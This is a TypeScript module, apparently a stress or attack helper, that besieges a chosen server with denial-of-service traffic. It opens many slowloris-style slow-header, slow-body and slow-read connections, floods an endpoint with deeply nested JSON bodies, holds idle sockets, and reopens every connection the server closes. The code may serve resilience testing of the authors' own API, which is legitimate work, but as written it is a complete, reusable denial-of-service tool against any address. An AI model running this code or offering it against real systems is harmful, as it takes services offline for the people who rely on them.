import { connect, type Socket } from 'node:net'

/** Connections that cost nothing to hold, and come again when the server ends them. */
export interface Asedio {
  /** How many were opened in all. */
  abiertas(): number
  parar(): void
}

type Estilo = (socket: Socket, host: string) => NodeJS.Timeout | undefined

/** Sends a head that never ends, a letter at a time. */
const cabezaLenta: Estilo = (socket) => {
  socket.write('GET /api/syscfg/get HTTP/1.1\r\nHost: x\r\nX: ')
  return setInterval(() => socket.write('a'), 500)
}

/** Sends a body that never ends, as somebody who is signed in. */
const cuerpoLento =
  (token: string): Estilo =>
  (socket) => {
    socket.write(
      `POST /api/cobranza HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"data":[`,
    )
    return setInterval(() => socket.write(' '), 500)
  }

/** Asks for long answers and reads none of them. */
const lecturaLenta =
  (token: string): Estilo =>
  (socket) => {
    const pedido = `GET /api/openapi.json HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`
    socket.pause()
    socket.write(pedido.repeat(20))
    return setTimeout(() => socket.destroy(), 20_000)
  }

/** Asks without a session as fast as it can, with a deep body each time. */
const avalancha: Estilo = (socket) => {
  const cuerpo = '['.repeat(60_000)
  const pedido = `POST /api/cobranza HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${cuerpo.length}\r\n\r\n${cuerpo}`
  socket.resume()
  const seguir = () => {
    if (socket.writable && socket.writableLength < 200_000) socket.write(pedido)
  }
  socket.on('data', seguir)
  return setInterval(seguir, 50)
}

/** Opens and says nothing. */
const callada: Estilo = () => undefined

/** Besieges the server with slow and with hasty connections until `parar`. `veces`: how many of each, times ten. */
export function asediar(direccion: string, token: string, veces: number): Asedio {
  const { hostname, port } = new URL(direccion)
  const vivos = new Set<Socket>()
  let total = 0
  let fin = false
  const abrir = (estilo: Estilo) => {
    if (fin) return
    total++
    const socket = connect(Number(port), hostname)
    vivos.add(socket)
    let reloj: NodeJS.Timeout | undefined
    socket.on('connect', () => {
      reloj = estilo(socket, hostname)
    })
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearInterval(reloj)
      vivos.delete(socket)
      setTimeout(() => abrir(estilo), 200)
    })
  }
  const filas: readonly (readonly [Estilo, number])[] = [
    [cabezaLenta, 4],
    [cuerpoLento(token), 4],
    [lecturaLenta(token), 1],
    [avalancha, 0.4],
    [callada, 10],
  ]
  for (const [estilo, n] of filas) for (let i = 0; i < n * veces; i++) abrir(estilo)
  return {
    abiertas: () => total,
    parar() {
      fin = true
      for (const socket of vivos) socket.destroy()
    },
  }
}
